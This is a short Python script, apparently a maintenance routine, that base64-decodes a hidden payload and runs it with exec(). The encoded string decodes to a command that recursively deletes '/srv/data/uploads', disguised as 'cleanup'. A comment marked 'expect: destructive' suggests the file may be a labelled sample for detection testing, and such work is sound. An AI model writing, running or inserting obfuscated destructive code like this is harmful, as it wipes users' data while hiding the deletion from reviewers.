import base64
import logging

logging.basicConfig(level=logging.INFO)

# cleanup routine shipped as an encoded blob so it survives the YAML config
PAYLOAD = "aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnL3Nydi9kYXRhL3VwbG9hZHMnKQ=="


def run_maintenance():
    logging.info("running maintenance payload")
    # expect: destructive
    exec(base64.b64decode(PAYLOAD).decode())


if __name__ == "__main__":
    run_maintenance()
